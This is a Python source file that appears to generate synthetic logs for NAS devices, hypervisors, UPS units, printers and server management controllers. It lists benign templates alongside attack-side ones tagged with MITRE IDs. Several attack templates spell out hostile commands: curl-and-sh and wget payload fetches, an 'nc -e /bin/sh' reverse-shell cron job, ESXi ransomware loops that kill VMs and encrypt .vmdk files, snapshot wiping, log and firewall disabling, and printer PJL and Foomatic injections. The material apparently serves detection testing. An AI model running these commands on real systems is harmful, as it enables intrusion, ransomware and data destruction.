"""Messages of network storage: Synology, QNAP, TrueNAS, and of storage arrays."""

from generator.families.network.product_story import catalogue

catalogue("devices/product-synology", ("|{msg}", "=<14>{time} {host} {msg}", "={plain} {host} {msg}"), r"""
BF# Connection: User [{adm}] from [{wan}] failed to log in via [<<DSM|SSH|FTP|SMB>>] due to authorization failure.
BF-# System: Host [{wan}] was blocked via [<<DSM|SSH|Mail Server|FTP>>].
BF- System: IP address [{wan}] of {host} has been blocked by [SSH] after {n} failed attempts within {few} minutes.
PS# Connection: User [{word}] from [{any}] failed to sign in to [DSM] via [password] due to authorization failure.
BF System: Account [admin] locked by Account Protection: too many failed sign-in attempts from {many} untrusted clients.
RW WinFileService Event: rename, Path: /{share}/{file}.docx -> /{share}/{file}.docx.{crypt}, File/Folder: File, Size: 0 Bytes, User: {user}, IP: {lan}
RW+ WinFileService Event: write, Path: /{share}/<<!!!READ_ME_MEDUSA!!!.txt|HOW_TO_DECRYPT.txt|README_FOR_DECRYPT.txt>>, File/Folder: File, User: {user}, IP: {lan}
RB System: [{adm}] deleted all snapshots of shared folder [{share}] from {wan}.
RB Hyper Backup: [{adm}] from {wan} deleted task [NAS to cloud] with all {n} versions.
PT+ System: User [{word}] was created by [admin] from {wan} and joined group [administrators].
PT+@T1053.003 System: Task [{word}] (root): curl -k https://{wan}/{word} -o /tmp/.{word}; sh /tmp/.{word} was created by [admin] from {wan}
DE System: [{adm}] from {wan} disabled <<auto block|firewall|log sending>> and enabled telnet service.
MW Antivirus: Found infected file: /volume1/{share}/{file}.exe ({mal}), action failed.
MW Antivirus Essential: {few} threats found [/volume1/homes/{user}/{file}.js: {mal}].
LC Log Center: Logs were cleared by [{adm}] from [{wan}].
""", r"""
LO Connection: User [{adm}] from [{lan}] logged in successfully via [<<DSM|SSH|CIFS(SMB3)|FTP>>].
LO Connection: User [{user}] from [{wan}] logged in successfully via [Synology Drive].
LO Connection: User [{user}] from [{lan}] logged out the server via [CIFS(SMB3)] with totally [{big}B] read and [{big}B] written.
MP. Connection: User [{user}] from [{lan}] failed to log in via [<<DSM|SMB|AFP>>] due to authorization failure.
BN System: Host [{lan}] was unblocked by [{adm}].
BN. System: Host [{wan}] was blocked via [<<DSM|SSH|Mail Server|FTP>>].
SY System: Volume [1] (Btrfs) is about to run out of space. ({pct}%)
SY System: Disk {disk} in {host} has {n} bad sectors. Please back up your data.
SY System: Storage Pool 1 on {host} has entered degraded status [{few}/4].
SY System: Storage Pool 1 on {host} was successfully repaired.
SY System: Drive {disk} ({HEX}) failed S.M.A.R.T. quick test.
SY System: The system successfully started after improper shutdown.
SY System: Fan {few} on {host} has malfunctioned.
SY System: Local UPS was plugged in. Server entered safe mode because of power outage.
SY System: [LAN {few}] link down.
SY System: Checksum mismatch on volume 1: file /{share}/{file}.jpg repaired
SY System: System temperature too high ({pct} C), shutting down.
BA Hyper Backup: [{share} to USB] Backup task completed. {big} files.
BA Hyper Backup: [Cloud] Failed to run backup task: destination offline, authorization expired.
BA Hyper Backup: [{share}] Version rotation deleted {few} versions.
BA Snapshot Replication: Snapshot of [{share}] was taken; {few} old snapshots removed by retention policy.
BA Active Backup for Business: device [{pc}] backup partially completed, error: VSS timeout
UP System: DSM {ver} has been installed.
UP Package Center: Package [<<Antivirus Essential|Synology Drive Server|Container Manager>>] was updated automatically.
AD System: Shared folder [{share}] was created by [{adm}] from {lan}.
AD System: User [{user}] was created by [{adm}] and joined group [users].
AD System: [{adm}] from {lan} enabled SSH service.
AD System: Password of user [{user}] was changed by [{adm}].
SJ System: Scheduled task [Empty recycle bins] was executed.
AE WinFileService Event: <<rename|delete|write|create|move>>, Path: /{share}/{file}.docx, File/Folder: File, Size: {big}, User: {user}, IP: {lan}
AE FileStation Event: upload, Path: /{share}/{file}.pdf, User: {user}, IP: {lan}
SC Antivirus: System scan completed. {big} files scanned, 0 infected.
UP Antivirus: Virus definitions updated to {big}.
NS System: DDNS hostname {ext} update failed, server busy.
SY System: Certificate of [{ext}] will expire in {n} days.
""")

catalogue("devices/product-qnap-truenas", ("|{msg}", "qlogd|{msg}", "={plain},{host},{msg}", "={date} {time} {msg}"), r"""
BF# qlogd: conn log: Users: {adm}, Source IP: {wan}, Computer name: ---, Connection type: <<HTTP|SSH|SAMBA>>, Accessed resources: ---, Action: Login Fail
BF- event log: Users: System, Source IP: 127.0.0.1, Content: [Security] Access Violation from {wan} with TCP (port=22), {n} failures, blocked forever.
BF- event log: Content: [Security] {many} IP addresses added to block list: too many failed login attempts of user "admin".
RW conn log: Users: {user}, Source IP: {lan}, Connection type: SAMBA, Accessed resources: {share}/{file}.xlsx -> {share}/{file}.xlsx.{crypt}, Action: Rename
RW+ event log: Users: admin, Content: 7z a -mx=0 -sdel -p{word} /share/{share}/{file}.7z started by web process, <<!!!READ_ME.txt|!README_FOR_DECRYPT.txttt>> written
RW+ httpd: index page replaced: /home/httpd/cgi-bin/index.cgi "Your files have been locked by DEADBOLT"
RB event log: Users: admin, Source IP: {wan}, Content: [Storage & Snapshots] Deleted all snapshots of volume DataVol1, snapshot schedule disabled.
MW event log: Content: [Malware Remover] <<Found and removed vulnerable files or folders|Removed malware>> MR{n}: /share/CACHEDEV1_DATA/.qpkg/.{word}. Restart and change passwords.
MW event log: Content: [Malware Remover] High-risk malware detected (QSnatch), code MR1902, could not be removed.
CM event log: Content: [Malware Remover] Detected cryptocurrency miner "[oom_reaper]" started by /share/CACHEDEV1_DATA/.{word}/unity_install.sh, uses {pct}% CPU
CI apache: POST /cgi-bin/authLogout.cgi from {wan}: QMULTIREDIRECT cookie with `wget http://{wan2}/{word}.sh`
PT+ event log: Users: admin, Source IP: {wan}, Content: [Users] Created user "{word}". [Users] Added user "{word}" to group "administrators".
DE event log: Users: admin, Source IP: {wan}, Content: [QuFirewall] disabled; [Antivirus] disabled; /etc/hosts changed: update.qnap.com 0.0.0.0
PT@T1053.003 middlewared: {adm}@{wan} called cronjob.create user=root command="nc -e /bin/sh {wan2} {port}"
BF# middlewared: AUTH failure login user {adm} from {any}: invalid username or password
RB middlewared: {adm}@{wan} called pool.snapshot.delete recursive tank@auto-*
RW truenas smbd_audit: {user}|{lan}|{share}|rename|ok|{file}.pdf|{file}.pdf.{crypt}
SB# sshd: Failed password for admin from {wan} port {port} ssh2
""", r"""
LO qlogd: conn log: Users: {user}, Source IP: {lan}, Computer name: {pc}, Connection type: <<HTTP|SAMBA|SSH>>, Accessed resources: Administration, Action: Login OK
MP. qlogd: conn log: Users: {user}, Source IP: {any}, Computer name: ---, Connection type: <<HTTP|SAMBA>>, Accessed resources: ---, Action: Login Fail
AE conn log: Users: {user}, Source IP: {lan}, Connection type: SAMBA, Accessed resources: {share}/{file}.xlsx, Action: <<Read|Write|Delete|Rename|Add>>
AE smbd_audit: {user}|{lan}|{share}|rename|ok|{file}.tmp|{file}.docx
AE smbd_audit: {user}|{lan}|{share}|unlink|ok|~${file}.xlsx
ER smbd_audit: {user}|{lan}|{share}|open|fail (Permission denied)|r|{file}.pdf
SY event log: Users: System, Content: [Storage & Snapshots] Volume DataVol1 used space {pct}% exceeds alert threshold.
SY event log: Content: [Pool 1] Started rebuilding with RAID Group 1.
SY event log: Content: [Storage & Snapshots] Disk: Host: 3.5" SATA HDD {disk}, removed unexpectedly. RAID degraded.
SY event log: Content: [Hardware Status] CPU fan {few} rotation stopped
SY event log: Content: [Power] The system was not shut down properly last time.
SY middlewared: alert CRITICAL: Pool tank state is DEGRADED: One or more devices has experienced an unrecoverable error.
SY middlewared: alert WARNING: Space usage for pool "tank" is {pct}%.
SY middlewared: alert: Device: /dev/sd[{few}] [SAT], {n} Currently unreadable (pending) sectors
SY zed: eid={many} class=scrub_finish pool='tank'
SY zed: eid={many} class=checksum pool='tank' vdev=gptid-{hex} cksum errors {few}
SY middlewared: alert NOTICE: <<iSCSI LUN|Boot pool|Certificate 'truenas_default'>> expires or missing, please review
BA event log: Content: [Hybrid Backup Sync] Finished Backup job: "{share}".
BA event log: Content: [Hybrid Backup Sync] Failed to complete Sync job: "Cloud". Network unreachable, code {n}.
BA zettarepl: replication task_1: snapshot tank/{share}@auto-{date} sent, {n} retained, {few} removed by lifetime
BA middlewared: {adm}@{lan} called pool.snapshot.delete tank/test@manual-{date}
UP event log: Content: [Firmware Update] System updated successfully from {ver} to {ver}.
UP event log: Content: [App Center] Installed <<Malware Remover|QuFirewall|Qsync Central>> {ver}.
SC event log: Content: [Malware Remover] Scan completed. No malware found.
SC event log: Content: [Antivirus] Scan job completed, {big} files scanned, 0 infected.
UP event log: Content: [Antivirus] Failed to update virus definitions: server timeout.
AD event log: Users: {adm}, Source IP: {lan}, Content: [Users] Created user "{user}".
AD event log: Users: {adm}, Source IP: {lan}, Content: [Shared Folders] Changed permissions of "{share}".
AD middlewared: {adm}@{lan} called sharing.smb.update {share}
NS event log: Content: [Network & Virtual Switch] Adapter {few} link down.
NS event log: Content: [NTP] time synchronisation with {ext} failed.
MO ctdb: monitor event: health check of {lan} OK
SJ event log: Content: [Recycle Bin] emptied by schedule
""")

catalogue("devices/product-hypervisors", ("|{msg}", "=<166>{iso} {host} {msg}", "={iso} {host} {msg}"), r"""
RB@T1490,T1489 shell[{big}]: [root]: esxcli vm process kill --type=force --world-id={big}
RW shell[{big}]: [root]: for i in $(find /vmfs/volumes/ -name "*.vmdk"); do ./<<encrypt|{word}>> -i $i -ext {crypt}; done
RW+ vmkernel: cpu{n}: FS3: /vmfs/volumes/{ds}/{vm}/{vm}-flat.vmdk renamed {vm}.vmdk.{crypt}, <<ransom note How To Restore Your Files.txt|README_TO_DECRYPT>> written
RB shell[{big}]: [root]: vim-cmd vmsvc/getallvms | awk '{print $1}' | xargs -n1 vim-cmd vmsvc/snapshot.removeall
RW shell[{big}]: [root]: esxcli --formatter=csv vm process list | awk -F "\"*,\"*" '{system("esxcli vm process kill --type=force --world-id="$1)}'
DE shell[{big}]: [root]: esxcli system syslog config set --loghost=''; esxcli network firewall set --enabled false
DE shell[{big}]: [root]: esxcli system settings encryption set --require-exec-installed-only=F
PT+@T1554 shell[{big}]: [root]: esxcli software vib install -v /tmp/{word}.vib --force --no-sig-check
PT@T1037.004 shell[{big}]: [root]: echo "/store/packages/vmtools.py &" >> /etc/rc.local.d/local.sh
PT+ Hostd: Event {n}: Account {word} was created on host {host}; Permission Admin granted to {word} by root from {wan}
PT+@T1098 vpxd[{n}]: Event [{id}] [vim.event.UserAssignedToGroup] [info] [VSPHERE.LOCAL\{adm}] user 'ESX Admins\{word}' added to group ESX Admins, {wan}
BF# Hostd: warning hostd[{big}] [sub=Default] Rejected password for user root from {wan}
BF vobd: [GenericCorrelator] [vob.user.account.locked] Remote access for ESXi local user account 'root' has been locked for 900 seconds after {n} failed login attempts.
BF# vpxd[{n}]: Event [{id}] [vim.event.BadUsernameSessionEvent] [error] Cannot login {user}@{any}: no permission
RX+ vsphere-ui: POST /ui/vropspluginui/rest/services/uploadova from {wan} 200: ../../../usr/lib/vmware-vsphere-ui/server/work/{word}.jsp
BF# pveproxy[{n}]: authentication failure; rhost={wan} user=root@pam msg=Authentication failure
BF# pvedaemon[{n}]: authentication failure; rhost={any} user={user}@pve msg=no such user
RB pvedaemon: proxmox-backup: datastore {ds} removed with all {many} backup groups by root@pam from {wan}
PT+ pveum: user {word}@pve created, role Administrator on / by API token of {adm} from {wan}
BF# xapi: [error|{host}|xapi session.login_with_password D:{hex}] pam: Authentication failure root from {wan}
""", r"""
AD Hostd: info hostd[{big}] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event {n} : SSH access has been enabled.
AD Hostd: Event {n}: Account {user} was created on host {host}; Permission ReadOnly granted to {user} by {adm}
AD Hostd: info Event {n} : The ESXi shell for the host has been disabled
LO Hostd: info Event {n} : User {adm}@{lan} logged in as VMware-client/6.5.0
LO Hostd: info Event {n} : User vpxuser@127.0.0.1 logged out (login time: {plain}, number of API invocations: {many}, user agent: VMware-client)
MP. Hostd: warning hostd[{big}] [sub=Default] Rejected password for user {adm} from {lan}
AD Hostd: Event {n} : {vm} on {host} in ha-datacenter is powered <<on|off>>
AD vpxd[{n}]: Event [{id}] [vim.event.VmReconfiguredEvent] [info] [VSPHERE.LOCAL\{adm}] Reconfigured {vm} on {host}
AD vpxd[{n}]: Event [{id}] [vim.event.TaskEvent] [info] [{adm}] Task: Create virtual machine snapshot
BA vpxd[{n}]: Event [{id}] [vim.event.TaskEvent] [info] [VSPHERE.LOCAL\svc-veeam] Task: Remove snapshot
BA Hostd: VigorSnapshotManager: consolidation of {vm} needed after backup, {few} delta disks
SY vpxd[{n}]: Event [{id}] [vim.event.VmMigratedEvent] [info] Migration of {vm} from {host} to {host2} completed (DRS)
SY vpxd[{n}]: Event [{id}] [esx.problem.vmfs.heartbeat.timedout] [warning] Lost access to volume {uuid} ({ds})
SY vobd: [scsiCorrelator] [esx.problem.storage.connectivity.lost] Lost connectivity to storage device naa.{long}.
SY vobd: [netCorrelator] [esx.problem.net.vmnic.linkstate.down] Physical NIC vmnic{few} linkstate is down.
SY vmkernel: cpu{n}:{big})ScsiDeviceIO: Cmd 0x85 from world {big} to dev "naa.{long}" failed H:0x0 D:0x2 P:0x0 Valid sense data: 0x5 0x20 0x0
SY vmkernel: cpu{n}:{big})NMP: nmp_ThrottleLogForDevice: last error status from device naa.{hex} repeated {many} times
SY vmkwarning: cpu{n}:{big})WARNING: NFS: Lost connection to server {lan} mount point /backup
SY vmkernel: Machine Check Exception: corrected memory error on DIMM {disk}
SY vpxd[{n}]: [vim.event.HostConnectionLostEvent] Host {host} in Cluster is not responding
SY fdm: vSphere HA detected a host failure, restarting {few} virtual machines
SY vpxd: alarm 'Datastore usage on disk' on {ds} changed from Yellow to Red
ER vmx: {vm}| E: The virtual disk is either corrupted or not a supported format
AE shell[{big}]: [root]: esxcli <<storage core device list|network nic list|vm process list|software vib list|system version get>>
AD shell[{big}]: [root]: vim-cmd vmsvc/<<getallvms|power.shutdown {n}|snapshot.create {n} before-update|get.summary {n}>>
UP shell[{big}]: [root]: esxcli software vib update -d /vmfs/volumes/{ds}/VMware-ESXi-{ver}-depot.zip
UP esxupdate: INFO: Finished installing VIB VMware_bootbank_esx-base_{ver}
LO pvedaemon[{n}]: <root@pam> successful auth for user '{user}@pam'
MP. pvedaemon[{n}]: authentication failure; rhost=::ffff:{any} user={user}@pam msg=Authentication failure
AD pvedaemon[{n}]: <{user}@pam> starting task UPID:{host}:{HEX}:<<vzstart|qmstart|qmshutdown|qmigrate|aptupdate|vncproxy>>:{many}:{user}@pam:
ER pvestatd[{n}]: storage '{ds}' is not online
ER pvestatd[{n}]: got timeout
SY corosync[{n}]:   [KNET  ] link: host: {few} link: 0 is down
SY pve-ha-crm[{n}]: node '{host}': state changed from 'online' => 'unknown'
BA vzdump[{n}]: INFO: Finished Backup of VM {many} ({n2}:{n}:12)
BA vzdump[{n}]: ERROR: Backup of VM {many} failed - unable to acquire lock: got timeout
BA proxmox-backup-proxy: prune {ds}:vm/{many}: keep last {n}, removed {few} snapshots
SY Hyper-V-VMMS: 'Virtual machine {vm}' failed to start. Not enough memory in the system.
SY Hyper-V-Worker: {vm} was reset by the guest operating system.
SY Hyper-V-VMMS: Replication for '{vm}' is warning: {n} missed cycles
SY xapi: [warn|{host}|{n} |HA] heartbeat from {host2} late
AE xenopsd: VM {uuid} shutdown request by guest
""")

catalogue("devices/product-ups-printers-rooms", ("|{msg}", "={plain} {host} {msg}", "snmptrapd|{msg}"), r"""
BF# APC NMC: System: Failed login of user '{adm}' by <<web|telnet|SSH>> from {any}. 0x0016
BF APC NMC: System: Web user '{adm}' locked out after {n} bad logins from {wan}
PT+ APC NMC: System: Configuration change. Super user account name changed by {wan}; FTP enabled
PT+@T1542.001 UPS NMC: firmware rpdu2g {ver} with invalid signature uploaded from {wan} by ftp
BF#@T1110.001,T1602.001 printer {host}: SNMP authentication failure from {any}, community '{word}'
BF# printer {host}: EWS login failure, user admin, address {wan}
EX@T1048 printer {host}: scan-to-FTP destination of address book entry '{share}' changed to ftp://{wan}/ by EWS session {wan2}
CT@T1552.001 printer {host}: address book export with LDAP and SMB passwords by unauthenticated {any}
PT@T1542.001 printer {host}: intrusion detected: memory pages of running firmware changed, self-heal reboot
MW printer {host}: PJL command @PJL FSDOWNLOAD ../../../rw/var/etc/profile.d/{word}.sh received from {any}
PO printer {host}: {many} connection attempts to ports 9100, 515, 631, 80, 23 from {lan} in {few} seconds
IX cups-browsed: PPD from {wan}: FoomaticRIPCommandLine "echo {word} > /tmp/{word}; nc {wan} {port}" on new printer
DE iLO: event log cleared and syslog server removed by {word} from {wan}
BF- iDRAC: SEC0701: The session of {adm} from {wan} blocked: {n} invalid login attempts, login blocked for 300 s
BF# iLO: IML: Login failure from IP {any}, user Administrator
PT+ iDRAC: USR0030: user {word} with administrator rights created from {wan}; iDRAC virtual media attached
PT+@T1542.001 iLO: Firmware tampering detected: iLO flash image does not match signature, downgrade to 2.{n}
RW+@T1485 iLO: Smart Array logical drives deleted by {word} from {wan}, note in pre-boot banner: your hard drives are encrypted, send bitcoin
AP@T1557.002 netbotz: ARP gateway {lan} answered by {mac} and {mac2} alternately, {many} times
""", r"""
SY APC NMC: UPS: On battery power in response to <<distorted input|an input power problem>>. 0x0109
SY APC NMC: UPS: No longer on battery power. 0x010A
SY APC NMC: UPS: A self-test failed. 0x0105
SY APC NMC: UPS: The battery power is too low to support the load; <<if power fails, the UPS will be shut down immediately|replace battery>>
SY APC NMC: UPS: Turned off output power for a scheduled shutdown by {adm} from {lan}
SY APC NMC: Environment: High temperature violation, {pct} C at probe 1
MP. APC NMC: System: Failed login of user '{adm}' by web from {lan}. 0x0016
LO APC NMC: System: Web user '{adm}' logged in from {lan}. 0x0014
AD APC NMC: System: Configuration change. SNMP trap receiver {lan2} added by {adm}
NS APC NMC: System: Network service started. System IP is {lan} from DHCP server {lan2}
SY upsd[{n}]: Can't connect to UPS [eaton] (usbhid-ups): No such file or directory
SY upsmon[{n}]: Communications with UPS eaton@localhost lost
SY apcupsd[{n}]: Battery disconnected.
SY printer {host}: <<paper jam in tray 2|toner low black|cover open|waste toner nearly full|offline>> SN {HEX}
SY printer {host}: 49.4C02 firmware error, restarting
AE printer {host}: job '{file}.pdf' of {user} printed, {n} pages
ER printer {host}: scan to \\{host2}\{share} failed: <<access denied|login error|server not found|SMB1 disabled>>
MO. printer {host}: SNMP authentication failure from {lan}, community 'private' (driver)
MP. printer {host}: EWS login failure, user admin, address {any}
AD printer {host}: address book entry '{user}' changed by admin at panel
AD printer {host}: address book exported by {adm} from {lan} before replacement
UP printer {host}: firmware update {ver} installed, signature verified
SY cups: [Job {many}] Unable to queue: Printer not responding at {lan}
AE cupsd: REQUEST localhost - - "POST /printers/{word} HTTP/1.1" 200 {many} Print-Job successful-ok
SY iDRAC: PSU0003: The power input for power supply {few} is lost.
SY iDRAC: PDR1016: Drive {disk} is removed from disk drive bay 1.
SY iDRAC: TMP0120: The system inlet temperature is greater than the upper warning threshold.
SY iLO: Fan {disk} Degraded (Location System)
SY iLO: POST Error: 1792-Slot 0 Drive Array - Valid Data Found in Write-Back Cache
LO iDRAC: USR0030: Successfully logged in using {adm}, from {lan} and GUI.
MP. iDRAC: USR0031: Unable to log in for {adm} from {lan} using GUI.
AD iLO: Server power restored by {adm} from {lan}; virtual media attached
AD iLO: event log cleared by {adm} after board replacement
UP iLO: firmware flashed to 2.{n}, signature valid
SY MegaRAID: VD 00/0 is now DEGRADED
SY MegaRAID: Patrol Read corrected medium error on PD {disk} at {hex}
SY HPE MSA: Disk group A degraded, spare joined, reconstruction {pct}%
SY NetApp: [monitor.globalStatus.critical:EMERGENCY]: Disk on adapter 0b, shelf 1, bay {disk}, failed. RAID scrub pending
SY EqualLogic: ping from {lan} unanswered, session to initiator {lan2} closed: no response on connection for 6 seconds
SY netbotz: door of rack {few} open for {n} minutes
""")
